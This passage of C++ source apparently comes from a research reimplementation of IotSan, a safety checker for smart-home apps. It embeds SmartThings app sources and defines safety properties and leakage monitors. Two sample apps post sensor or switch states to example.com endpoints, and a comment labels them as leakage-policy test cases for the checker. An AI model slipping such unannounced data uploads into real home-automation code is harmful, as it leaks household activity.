definition(name: "Flood Night Alarm", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Sound the alarm and light the way when water is detected.")

preferences {
    section("Water detected by") {
        input "leak1", "capability.waterSensor", title: "Leak sensor"
    }
    section("Sound these alarms") {
        input "alarms", "capability.alarm", title: "Alarms", multiple: true
    }
    section("And turn on") {
        input "lights", "capability.switch", title: "Lights", multiple: true, required: false
    }
}

def installed() {
    subscribe(leak1, "water", waterHandler)
}

def waterHandler(evt) {
    if (evt.value == "wet") {
        alarms.siren()
        if (lights) {
            lights.on()
        }
    } else {
        alarms.off()
    }
}
)APP");

  add("Smart Humidifier", R"APP(
definition(name: "Smart Humidifier", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn on the humidifier when the air is too dry.")

preferences {
    section("Humidity from") {
        input "humidity1", "capability.relativeHumidityMeasurement", title: "Humidity sensor"
    }
    section("Humidifier outlet") {
        input "humidifier", "capability.switch", title: "Humidifier"
    }
    section("On when humidity below") {
        input "dryPoint", "number", title: "Percent"
    }
}

def installed() {
    subscribe(humidity1, "humidity", humidityHandler)
}

def humidityHandler(evt) {
    if (evt.numericValue <= dryPoint) {
        humidifier.on()
    } else {
        humidifier.off()
    }
}
)APP");

  add("Dehumidifier Controller", R"APP(
definition(name: "Dehumidifier Controller", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn on the dehumidifier when the air is too damp.")

preferences {
    section("Humidity from") {
        input "humidity1", "capability.relativeHumidityMeasurement", title: "Humidity sensor"
    }
    section("Dehumidifier outlet") {
        input "dehumidifier", "capability.switch", title: "Dehumidifier"
    }
    section("On when humidity above") {
        input "wetPoint", "number", title: "Percent"
    }
}

def installed() {
    subscribe(humidity1, "humidity", humidityHandler)
}

def humidityHandler(evt) {
    if (evt.numericValue >= wetPoint) {
        dehumidifier.on()
    } else {
        dehumidifier.off()
    }
}
)APP");

  add("Music When Home", R"APP(
definition(name: "Music When Home", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Start the music when someone arrives.")

preferences {
    section("When someone arrives") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Play on") {
        input "player", "capability.musicPlayer", title: "Speaker"
    }
}

def installed() {
    subscribe(people, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
    player.play()
}
)APP");

  add("Silence When Away", R"APP(
definition(name: "Silence When Away", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Stop the music when everyone leaves.")

preferences {
    section("When these people leave") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Stop") {
        input "player", "capability.musicPlayer", title: "Speaker"
    }
}

def installed() {
    subscribe(people, "presence.notpresent", departureHandler)
}

def departureHandler(evt) {
    def anyoneHome = people.find { it.currentPresence == "present" }
    if (anyoneHome == null) {
        player.stop()
    }
}
)APP");

  add("Window Left Open Alert", R"APP(
definition(name: "Window Left Open Alert", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Warn me when a window is open and it is cold outside.")

preferences {
    section("Window contact") {
        input "window1", "capability.contactSensor", title: "Window"
    }
    section("Outdoor temperature from") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Warn when below") {
        input "coldPoint", "number", title: "Degrees"
    }
    section("Text me at") {
        input "phone", "phone", title: "Phone number", required: false
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
    subscribe(window1, "contact.open", windowHandler)
}

def temperatureHandler(evt) {
    if (evt.numericValue <= coldPoint && window1.currentContact == "open") {
        notifyUser()
    }
}

def windowHandler(evt) {
    if (sensor.currentTemperature <= coldPoint) {
        notifyUser()
    }
}

def notifyUser() {
    if (phone) {
        sendSms(phone, "A window is open and it is cold outside")
    } else {
        sendPush("A window is open and it is cold outside")
    }
}
)APP");

  add("Door Knocker Alert", R"APP(
definition(name: "Door Knocker Alert", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Notify me when somebody knocks on the door.")

preferences {
    section("Knocks sensed by") {
        input "accel1", "capability.accelerationSensor", title: "Sensor"
    }
    section("But not when the door is opening") {
        input "contact1", "capability.contactSensor", title: "Door contact"
    }
}

def installed() {
    subscribe(accel1, "acceleration.active", knockHandler)
}

def knockHandler(evt) {
    if (contact1.currentContact == "closed") {
        sendPush("Somebody is knocking on the door")
    }
}
)APP");

  // Apps below use network interfaces: benign-looking, but they violate
  // the information-leakage policy when the user has not allowed raw
  // network access (paper §3).
  add("Weather Logger", R"APP(
definition(name: "Weather Logger", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Log temperature readings to a web service.")

preferences {
    section("Temperature from") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    httpPost("http://weather-stats.example.com/log", "temp=${evt.value}")
}
)APP");

  add("Remote Status Reporter", R"APP(
definition(name: "Remote Status Reporter", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Report switch states to a home-grown dashboard.")

preferences {
    section("Watch these switches") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    subscribe(switches, "switch", switchHandler)
}

def switchHandler(evt) {
    httpPostJson("http://dashboard.example.com/update", "state=${evt.value}")
}
)APP");

  add("Once A Day", R"APP(
definition(name: "Once A Day", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn switches on in the morning and off at night every day.")

preferences {
    section("Control these switches") {
        input "switches", "capability.switch", title: "Switches", multiple: true
    }
}

def installed() {
    schedule("0 0 7 * * ?", morningOn)
    schedule("0 0 21 * * ?", eveningOff)
}

def morningOn() {
    switches.on()
}

def eveningOff() {
    switches.off()
}
)APP");

  add("Scheduled Mode Change", R"APP(
definition(name: "Scheduled Mode Change", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Change the location mode on a daily schedule.")

preferences {
    section("Change to") {
        input "targetMode", "mode", title: "Mode"
    }
}

def installed() {
    schedule("0 0 23 * * ?", changeMode)
}

def changeMode() {
    if (location.mode != targetMode) {
        setLocationMode(targetMode)
    }
}
)APP");

  add("Curfew Check", R"APP(
definition(name: "Curfew Check", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Tell me if the front door opens at night.")

preferences {
    section("Front door contact") {
        input "contact1", "capability.contactSensor", title: "Door contact"
    }
    section("Night mode is") {
        input "nightMode", "mode", title: "Night mode"
    }
}

def installed() {
    subscribe(contact1, "contact.open", doorOpenHandler)
}

def doorOpenHandler(evt) {
    if (location.mode == nightMode) {
        sendPush("The front door opened during the night")
    }
}
)APP");

  add("Turn On Before Sunset", R"APP(
definition(name: "Turn On Before Sunset", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn lights on when it gets dark outside.")

preferences {
    section("Light level from") {
        input "luminance1", "capability.illuminanceMeasurement", title: "Sensor"
    }
    section("Turn on") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
    section("When light drops below") {
        input "darkPoint", "number", title: "Lux"
    }
}

def installed() {
    subscribe(luminance1, "illuminance", lightHandler)
}

def lightHandler(evt) {
    if (evt.numericValue <= darkPoint) {
        switches.on()
    } else {
        switches.off()
    }
}
)APP");

  add("Undead Early Warning", R"APP(
definition(name: "Undead Early Warning", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Flash the lights and sound the siren when the back gate opens.")

preferences {
    section("Back gate contact") {
        input "contact1", "capability.contactSensor", title: "Gate contact"
    }
    section("Flash these lights") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
    section("Siren") {
        input "alarms", "capability.alarm", title: "Alarms", multiple: true, required: false
    }
}

def installed() {
    subscribe(contact1, "contact.open", gateHandler)
}

def gateHandler(evt) {
    switches.on()
    if (alarms) {
        alarms.siren()
    }
}
)APP");

  add("Low Battery Notifier", R"APP(
definition(name: "Low Battery Notifier", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Notify me when a device battery runs low.")

preferences {
    section("Watch batteries of") {
        input "sensors", "capability.battery", title: "Devices", multiple: true
    }
    section("Warn below") {
        input "threshold", "number", title: "Percent"
    }
}

def installed() {
    subscribe(sensors, "battery", batteryHandler)
}

def batteryHandler(evt) {
    if (evt.numericValue <= threshold) {
        sendPush("${evt.displayName} battery is at ${evt.value}%")
    }
}
)APP");

  return apps;
}

}  // namespace iotsan::corpus
