// Market corpus, part B: security, alarming, locks, and climate apps.
#include "corpus/market_apps.hpp"

namespace iotsan::corpus {

std::vector<CorpusApp> MarketAppsPartB() {
  std::vector<CorpusApp> apps;
  auto add = [&apps](std::string name, std::string source) {
    apps.push_back({std::move(name), AppKind::kMarket, std::move(source)});
  };

  add("Smart Security", R"APP(
definition(name: "Smart Security", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Alerts you when there is motion or a door opens while you are away.")

preferences {
    section("Sense motion with...") {
        input "motions", "capability.motionSensor", title: "Motion sensors", multiple: true, required: false
    }
    section("Or door openings with...") {
        input "contacts", "capability.contactSensor", title: "Contact sensors", multiple: true, required: false
    }
    section("Sound the alarm") {
        input "alarms", "capability.alarm", title: "Sirens", multiple: true
    }
    section("Armed when mode is") {
        input "armedMode", "mode", title: "Armed mode"
    }
    section("Text me at") {
        input "phone", "phone", title: "Phone number", required: false
    }
}

def installed() {
    if (motions) {
        subscribe(motions, "motion.active", triggerHandler)
    }
    if (contacts) {
        subscribe(contacts, "contact.open", triggerHandler)
    }
}

def triggerHandler(evt) {
    if (location.mode == armedMode) {
        alarms.both()
        if (phone) {
            sendSms(phone, "Intruder detected: ${evt.descriptionText}")
        } else {
            sendPush("Intruder detected: ${evt.descriptionText}")
        }
    }
}
)APP");

  add("Smoke Alarm Deluxe", R"APP(
definition(name: "Smoke Alarm Deluxe", namespace: "iotsan.market",
    author: "SmartThings",
    description: "When smoke is detected: sound the alarm, unlock the doors, cut the heater, and notify you.")

preferences {
    section("Smoke detected by") {
        input "smoke1", "capability.smokeDetector", title: "Smoke detector"
    }
    section("Sound these alarms") {
        input "alarms", "capability.alarm", title: "Alarms", multiple: true
    }
    section("Unlock these doors") {
        input "locks", "capability.lock", title: "Locks", multiple: true, required: false
    }
    section("Cut power to the heater") {
        input "heaters", "capability.switch", title: "Heater outlets", multiple: true, required: false
    }
}

def installed() {
    subscribe(smoke1, "smoke", smokeHandler)
}

def smokeHandler(evt) {
    if (evt.value == "detected") {
        alarms.both()
        if (locks) {
            locks.unlock()
        }
        if (heaters) {
            heaters.off()
        }
        sendPush("Smoke detected!")
    } else if (evt.value == "clear") {
        alarms.off()
    }
}
)APP");

  add("CO2 Vent", R"APP(
definition(name: "CO2 Vent", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn on a ventilation fan when carbon monoxide is detected.")

preferences {
    section("CO detected by") {
        input "coDetector", "capability.carbonMonoxideDetector", title: "CO detector"
    }
    section("Turn on this fan") {
        input "fans", "capability.switch", title: "Fan switches", multiple: true
    }
}

def installed() {
    subscribe(coDetector, "carbonMonoxide", coHandler)
}

def coHandler(evt) {
    if (evt.value == "detected") {
        fans.on()
    }
}
)APP");

  add("Lock It When I Leave", R"APP(
definition(name: "Lock It When I Leave", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Locks the door and notifies you when everyone leaves.")

preferences {
    section("When these people leave") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Lock these locks") {
        input "locks", "capability.lock", title: "Locks", multiple: true
    }
    section("Text me at") {
        input "phone", "phone", title: "Phone number", required: false
    }
}

def installed() {
    subscribe(people, "presence.notpresent", departureHandler)
}

def departureHandler(evt) {
    def anyoneHome = people.find { it.currentPresence == "present" }
    if (anyoneHome == null) {
        locks.lock()
        if (phone) {
            sendSms(phone, "Doors locked: everyone left")
        }
    }
}
)APP");

  add("Lock It At Night", R"APP(
definition(name: "Lock It At Night", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Locks the doors when the location switches to night mode.")

preferences {
    section("Lock these locks") {
        input "locks", "capability.lock", title: "Locks", multiple: true
    }
    section("When mode becomes") {
        input "nightMode", "mode", title: "Night mode"
    }
}

def installed() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    if (evt.value == nightMode) {
        locks.lock()
    }
}
)APP");

  add("Auto Lock Door", R"APP(
definition(name: "Auto Lock Door", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Automatically locks the door after it closes.")

preferences {
    section("Which door contact?") {
        input "contact1", "capability.contactSensor", title: "Door contact"
    }
    section("Which lock?") {
        input "lock1", "capability.lock", title: "Lock"
    }
    section("Lock after (seconds)") {
        input "delaySeconds", "number", title: "Seconds", required: false
    }
}

def installed() {
    subscribe(contact1, "contact.closed", doorClosedHandler)
}

def doorClosedHandler(evt) {
    runIn(delaySeconds ?: 30, lockTheDoor)
}

def lockTheDoor() {
    if (contact1.currentContact == "closed") {
        lock1.lock()
    }
}
)APP");

  add("Presence Change Push", R"APP(
definition(name: "Presence Change Push", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Get a push notification when someone arrives or leaves.")

preferences {
    section("Who?") {
        input "person", "capability.presenceSensor", title: "Presence sensor"
    }
}

def installed() {
    subscribe(person, "presence", presenceHandler)
}

def presenceHandler(evt) {
    sendPush("${evt.displayName} is ${evt.value}")
}
)APP");

  add("Welcome Home Lights", R"APP(
definition(name: "Welcome Home Lights", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn lights on when someone arrives.")

preferences {
    section("When someone arrives") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Turn on") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
}

def installed() {
    subscribe(people, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
    switches.on()
}
)APP");

  add("Goodbye Lights", R"APP(
definition(name: "Goodbye Lights", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn lights off when everyone leaves.")

preferences {
    section("When these people leave") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Turn off") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
}

def installed() {
    subscribe(people, "presence.notpresent", departureHandler)
}

def departureHandler(evt) {
    def anyoneHome = people.find { it.currentPresence == "present" }
    if (anyoneHome == null) {
        switches.off()
    }
}
)APP");

  add("Appliances Off When Away", R"APP(
definition(name: "Appliances Off When Away", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Cut power to appliances when the mode changes to Away.")

preferences {
    section("Turn off these appliances") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("When mode becomes") {
        input "awayMode", "mode", title: "Away mode"
    }
}

def installed() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    if (evt.value == awayMode) {
        outlets.off()
    }
}
)APP");

  add("Vacation Lighting", R"APP(
definition(name: "Vacation Lighting", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Simulate occupancy by turning lights on while you are away.")

preferences {
    section("Cycle these lights") {
        input "switches", "capability.switch", title: "Lights", multiple: true
    }
    section("When mode is") {
        input "awayMode", "mode", title: "Away mode"
    }
}

def installed() {
    schedule("0 0/30 * * * ?", cycleLights)
}

def cycleLights() {
    if (location.mode == awayMode) {
        def anyOn = switches.find { it.currentSwitch == "on" }
        if (anyOn == null) {
            switches.on()
        } else {
            switches.off()
        }
    }
}
)APP");

  add("Thermostat Mode Director", R"APP(
definition(name: "Thermostat Mode Director", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Switch the thermostat between heating and cooling based on the outdoor temperature.")

preferences {
    section("Outdoor temperature from") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Thermostat") {
        input "thermostat", "capability.thermostat", title: "Thermostat"
    }
    section("Heat when below") {
        input "heatPoint", "number", title: "Degrees"
    }
    section("Cool when above") {
        input "coolPoint", "number", title: "Degrees"
    }
}

def installed() {
    subscribe(sensor, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
    if (evt.numericValue <= heatPoint) {
        thermostat.heat()
    } else if (evt.numericValue >= coolPoint) {
        thermostat.cool()
    } else {
        thermostat.off()
    }
}
)APP");

  add("Keep Me Cozy", R"APP(
definition(name: "Keep Me Cozy", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Set the thermostat setpoints when you tap the app.")

preferences {
    section("Thermostat") {
        input "thermostat", "capability.thermostat", title: "Thermostat"
    }
    section("Heating setpoint") {
        input "heatingSetpoint", "decimal", title: "Degrees"
    }
    section("Cooling setpoint") {
        input "coolingSetpoint", "decimal", title: "Degrees"
    }
}

def installed() {
    subscribe(app, appTouch)
}

def appTouch(evt) {
    thermostat.setHeatingSetpoint(heatingSetpoint)
    thermostat.setCoolingSetpoint(coolingSetpoint)
}
)APP");

  add("Camera On Motion", R"APP(
definition(name: "Camera On Motion", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Take a photo when motion is detected.")

preferences {
    section("When motion here") {
        input "motion1", "capability.motionSensor", title: "Motion sensor"
    }
    section("Use this camera") {
        input "camera1", "capability.imageCapture", title: "Camera"
    }
}

def installed() {
    subscribe(motion1, "motion.active", motionHandler)
}

def motionHandler(evt) {
    camera1.take()
}
)APP");

  add("Shade Closer", R"APP(
definition(name: "Shade Closer", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Close the window shades when the mode changes to Away.")

preferences {
    section("Close these shades") {
        input "shades", "capability.windowShade", title: "Shades", multiple: true
    }
    section("When mode becomes") {
        input "awayMode", "mode", title: "Away mode"
    }
}

def installed() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    if (evt.value == awayMode) {
        shades.close()
    }
}
)APP");

  add("Sunrise Shades", R"APP(
definition(name: "Sunrise Shades", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Open the window shades every morning.")

preferences {
    section("Open these shades") {
        input "shades", "capability.windowShade", title: "Shades", multiple: true
    }
}

def installed() {
    schedule("0 30 6 * * ?", morningOpen)
}

def morningOpen() {
    shades.open()
}
)APP");

  add("Night Light", R"APP(
definition(name: "Night Light", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Turn a night light on with motion during night mode.")

preferences {
    section("When motion here") {
        input "motion1", "capability.motionSensor", title: "Motion sensor"
    }
    section("Turn on this light") {
        input "nightLight", "capability.switch", title: "Night light"
    }
    section("Only when mode is") {
        input "nightMode", "mode", title: "Night mode"
    }
}

def installed() {
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (location.mode == nightMode) {
        if (evt.value == "active") {
            nightLight.on()
        } else {
            nightLight.off()
        }
    }
}
)APP");

  add("Garage Door Auto Close", R"APP(
definition(name: "Garage Door Auto Close", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Close the garage door when the mode changes to Away.")

preferences {
    section("Close this door") {
        input "door1", "capability.doorControl", title: "Garage door"
    }
    section("When mode becomes") {
        input "awayMode", "mode", title: "Away mode"
    }
}

def installed() {
    subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
    if (evt.value == awayMode) {
        door1.close()
    }
}
)APP");

  add("Garage Door Opener", R"APP(
definition(name: "Garage Door Opener", namespace: "iotsan.market",
    author: "SmartThings",
    description: "Open the garage door when you arrive home.")

preferences {
    section("When this person arrives") {
        input "person", "capability.presenceSensor", title: "Presence sensor"
    }
    section("Open this door") {
        input "door1", "capability.doorControl", title: "Garage door"
    }
}

def installed() {
    subscribe(person, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
    door1.open()
}
)APP");

  return apps;
}

}  // namespace iotsan::corpus
