// Experiment workloads (paper §10.1).
//
// * ExpertGroups(): the 150 market apps randomly divided into six groups
//   of 25 with one expert configuration each (Table 5 / Table 7a).  Some
//   group members are per-room install variants of base apps, matching
//   how a real household installs the same app several times.
// * VolunteerGroups(): ten groups of ~5 related apps; the bench draws
//   seven simulated non-expert configurations for each (Table 6).
#pragma once

#include <map>
#include <string>
#include <vector>

#include "config/deployment.hpp"

namespace iotsan::corpus {

/// A deployment plus the variant app sources it references (register
/// them with Sanitizer::AddAppSource before checking).
struct SystemUnderTest {
  config::Deployment deployment;
  std::map<std::string, std::string> extra_sources;

  /// Number of installed app instances.
  int app_count() const {
    return static_cast<int>(deployment.apps.size());
  }
};

/// The six expert-configured groups (25 apps each; 150 apps total).
const std::vector<SystemUnderTest>& ExpertGroups();

/// A volunteer group: related apps sharing a device pool; the
/// bench/test binds each app with GenerateVolunteerConfig.
struct VolunteerGroup {
  std::string name;
  std::vector<std::string> apps;       // corpus app names
  config::Deployment device_pool;      // devices + modes, no apps
};

/// The ten volunteer groups of the Table 6 user-study reproduction.
const std::vector<VolunteerGroup>& VolunteerGroups();

}  // namespace iotsan::corpus
