#include "corpus/corpus.hpp"

#include "corpus/market_apps.hpp"
#include "util/strings.hpp"

namespace iotsan::corpus {

const std::vector<CorpusApp>& AllApps() {
  static const std::vector<CorpusApp>& apps = *new std::vector<CorpusApp>([] {
    std::vector<CorpusApp> all;
    for (auto* part : {&MarketAppsPartA, &MarketAppsPartB, &MarketAppsPartC,
                       &MarketAppsPartD, &MaliciousAppsPart,
                       &UnsupportedAppsPart}) {
      std::vector<CorpusApp> chunk = (*part)();
      for (CorpusApp& app : chunk) all.push_back(std::move(app));
    }
    return all;
  }());
  return apps;
}

namespace {
std::vector<const CorpusApp*> Filter(AppKind kind) {
  std::vector<const CorpusApp*> out;
  for (const CorpusApp& app : AllApps()) {
    if (app.kind == kind) out.push_back(&app);
  }
  return out;
}
}  // namespace

std::vector<const CorpusApp*> MarketApps() {
  return Filter(AppKind::kMarket);
}

std::vector<const CorpusApp*> MaliciousApps() {
  return Filter(AppKind::kMalicious);
}

std::vector<const CorpusApp*> UnsupportedApps() {
  return Filter(AppKind::kUnsupported);
}

const CorpusApp* FindApp(std::string_view name) {
  for (const CorpusApp& app : AllApps()) {
    if (app.name == name) return &app;
  }
  return nullptr;
}

std::string MakeVariant(const CorpusApp& base, std::string_view suffix) {
  const std::string variant_name =
      base.name + " (" + std::string(suffix) + ")";
  // Rewrite only the definition(name: "...") occurrence.
  return strings::ReplaceAll(base.source, "name: \"" + base.name + "\"",
                             "name: \"" + variant_name + "\"");
}

}  // namespace iotsan::corpus
