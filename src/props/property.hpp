// Safety properties (paper §8, Table 4).
//
// IotSan verifies five classes of properties:
//   * free of conflicting commands  — per-cascade monitor
//   * free of repeated commands     — per-cascade monitor
//   * safe physical states          — LTL safety invariants over device
//                                     roles and the location mode
//   * no suspicious app behaviour   — leakage / security-sensitive-command
//                                     monitors (SMS recipients, network
//                                     interfaces, unsubscribe, fake events)
//   * robustness to failures        — commands must be verified and
//                                     failures reported to the user
//
// Invariant properties are written in a small textual predicate language
// (parsed with the SmartScript expression parser) over *device roles*:
//
//   !( all("presence", "presence") == "notpresent"
//      && any("mainDoorLock", "lock") == "unlocked" )
//
// Terms: any(role, attr) / all(role, attr) quantify over the devices
// carrying `role`; `mode` is the location mode; count(role, attr, value)
// counts matching devices.  A property is applicable to a deployment only
// when every role it references is present (paper §8: the LTL formulas are
// generated from the device-association info).
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "dsl/ast.hpp"

namespace iotsan::props {

enum class PropertyKind {
  kInvariant,         // safe-physical-state predicate, checked at every
                      // stable state
  kNoConflict,        // free of conflicting commands
  kNoRepeat,          // free of repeated commands
  kNoNetworkLeak,     // no information flow via network interfaces
  kSmsRecipient,      // SMS recipients must match the configured contact
  kNoSensitiveCmd,    // no unsubscribe()
  kNoFakeEvent,       // no synthetic device events
  kRobustness,        // commands verified; failure notifications sent
};

struct Property {
  std::string id;           // "P06"
  std::string category;     // Table 4 category
  std::string description;  // human-readable statement of the SAFE state
  PropertyKind kind = PropertyKind::kInvariant;

  /// kInvariant only: predicate that must hold in every reachable stable
  /// state; parsed lazily from `expression`.
  std::string expression;

  /// Roles referenced by `expression`.
  std::vector<std::string> roles;
  /// Roles referenced under a universal quantifier (all()/online()).
  /// These MUST be carried by >= 1 device for the property to be
  /// applicable: all() over an empty set is vacuously true and would
  /// produce spurious violations.  Existential (any()) roles over an
  /// empty set are simply false, so their absence is harmless.
  std::vector<std::string> universal_roles;

  /// Parses `expression` (cached).  Throws iotsan::ParseError.
  const dsl::Expr& ParsedExpression() const;

 private:
  mutable std::shared_ptr<dsl::Expr> parsed_;
};

/// The 45 built-in properties (38 invariants + 7 monitors), mirroring the
/// paper's Table 4 categories and counts.
const std::vector<Property>& BuiltinProperties();

/// Looks up a built-in property by id; nullptr when unknown.
const Property* FindBuiltinProperty(const std::string& id);

/// Creates a user-defined invariant property.  Role references are
/// extracted from the expression automatically.
Property MakeInvariant(std::string id, std::string category,
                       std::string description, std::string expression);

/// Extracts the roles referenced by any()/all()/count()/online() terms.
std::vector<std::string> RolesReferenced(const dsl::Expr& expr);

/// Extracts only the roles referenced by universal terms (all()/online()).
std::vector<std::string> UniversalRolesReferenced(const dsl::Expr& expr);

/// True if the expression reads the location mode.
bool ReferencesMode(const dsl::Expr& expr);

}  // namespace iotsan::props
