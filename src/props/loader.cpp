#include "props/loader.hpp"

#include <set>

#include "util/error.hpp"
#include "util/json.hpp"

namespace iotsan::props {

std::vector<Property> LoadPropertiesJson(std::string_view text) {
  const json::Value doc = json::Parse(text);
  std::vector<Property> out;
  std::set<std::string> ids;
  for (const json::Value& entry : doc.AsArray()) {
    const std::string id = entry.GetString("id");
    const std::string expression = entry.GetString("expression");
    if (id.empty() || expression.empty()) {
      throw SemanticError(
          "user property needs both \"id\" and \"expression\": " +
          entry.Dump());
    }
    if (!ids.insert(id).second) {
      throw SemanticError("duplicate user property id '" + id + "'");
    }
    if (FindBuiltinProperty(id) != nullptr) {
      throw SemanticError("user property id '" + id +
                          "' collides with a built-in property");
    }
    Property property = MakeInvariant(
        id, entry.GetString("category", "User"),
        entry.GetString("description", id), expression);
    // Validate the expression parses now, with a useful error message.
    try {
      property.ParsedExpression();
    } catch (const Error& e) {
      throw SemanticError("user property '" + id + "': " + e.what());
    }
    out.push_back(std::move(property));
  }
  return out;
}

}  // namespace iotsan::props
