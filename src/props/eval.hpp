// Evaluation of invariant property expressions against a system state.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "dsl/ast.hpp"

namespace iotsan::props {

/// Read-only view of a system state, implemented by the model checker's
/// SystemModel.  Devices are referred to by index.
class StateView {
 public:
  virtual ~StateView() = default;

  /// Indices of devices carrying `role`.
  virtual std::vector<int> DevicesWithRole(const std::string& role) const = 0;
  /// Symbolic value of `attr` on device `device` ("on", "locked"); empty
  /// optional when the device lacks the attribute.
  virtual std::optional<std::string> AttributeValue(
      int device, const std::string& attr) const = 0;
  /// Numeric value when `attr` is numeric.
  virtual std::optional<double> NumericValue(int device,
                                             const std::string& attr) const = 0;
  /// Current location mode name.
  virtual std::string LocationMode() const = 0;
  /// Availability flag of `device`.
  virtual bool DeviceOnline(int device) const = 0;
};

/// Evaluates a property predicate over `state`.  Supports the property
/// language of props/property.hpp.  Throws iotsan::SemanticError on
/// malformed expressions (unknown identifiers, bad quantifier usage).
bool EvalPropertyExpr(const dsl::Expr& expr, const StateView& state);

}  // namespace iotsan::props
