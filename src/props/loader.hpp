// Loading user-defined safety properties (paper §3/§8: "safety
// requirements can come from both the users and security experts"; users
// select/provide properties through an interface).
#pragma once

#include <string_view>
#include <vector>

#include "props/property.hpp"

namespace iotsan::props {

/// Parses user-defined invariant properties from JSON:
///   [{"id": "U1", "category": "User",
///     "description": "the heater is never on at night",
///     "expression": "!(mode == \"Night\"
///                      && any(\"heaterOutlet\", \"switch\") == \"on\")"}]
/// Ids must be unique and not collide with the built-in P01..P45.
/// Throws iotsan::ParseError / iotsan::SemanticError on malformed input.
std::vector<Property> LoadPropertiesJson(std::string_view text);

}  // namespace iotsan::props
