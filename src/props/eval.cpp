#include "props/eval.hpp"

#include "util/error.hpp"

namespace iotsan::props {

namespace {

using dsl::BinaryOp;
using dsl::Expr;
using dsl::ExprKind;

struct Quantifier {
  bool universal = false;  // all(...) vs any(...)
  std::string role;
  std::string attribute;
};

struct PropValue {
  enum class Kind { kBool, kNumber, kString, kQuantifier };
  Kind kind = Kind::kBool;
  bool b = false;
  double number = 0;
  std::string str;
  Quantifier quant;

  static PropValue Bool(bool v) {
    PropValue out;
    out.kind = Kind::kBool;
    out.b = v;
    return out;
  }
  static PropValue Number(double v) {
    PropValue out;
    out.kind = Kind::kNumber;
    out.number = v;
    return out;
  }
  static PropValue String(std::string v) {
    PropValue out;
    out.kind = Kind::kString;
    out.str = std::move(v);
    return out;
  }
};

[[noreturn]] void Malformed(const Expr& expr, const std::string& message) {
  throw SemanticError("property expression, line " +
                      std::to_string(expr.line) + ": " + message);
}

class Evaluator {
 public:
  explicit Evaluator(const StateView& state) : state_(state) {}

  bool EvalBool(const Expr& expr) {
    PropValue v = Eval(expr);
    if (v.kind != PropValue::Kind::kBool) {
      Malformed(expr, "expected a boolean value");
    }
    return v.b;
  }

 private:
  const StateView& state_;

  PropValue Eval(const Expr& expr) {
    switch (expr.kind) {
      case ExprKind::kBoolLit:
        return PropValue::Bool(expr.bool_value);
      case ExprKind::kNumberLit:
        return PropValue::Number(expr.number_value);
      case ExprKind::kStringLit:
        return PropValue::String(expr.text);
      case ExprKind::kIdent:
        if (expr.text == "mode") {
          return PropValue::String(state_.LocationMode());
        }
        Malformed(expr, "unknown identifier '" + expr.text +
                            "' (only 'mode' is predefined)");
      case ExprKind::kUnary: {
        if (expr.unary_op == dsl::UnaryOp::kNot) {
          return PropValue::Bool(!EvalBool(*expr.a));
        }
        PropValue v = Eval(*expr.a);
        if (v.kind != PropValue::Kind::kNumber) {
          Malformed(expr, "unary '-' needs a number");
        }
        return PropValue::Number(-v.number);
      }
      case ExprKind::kBinary:
        return EvalBinary(expr);
      case ExprKind::kTernary: {
        bool cond = EvalBool(*expr.a);
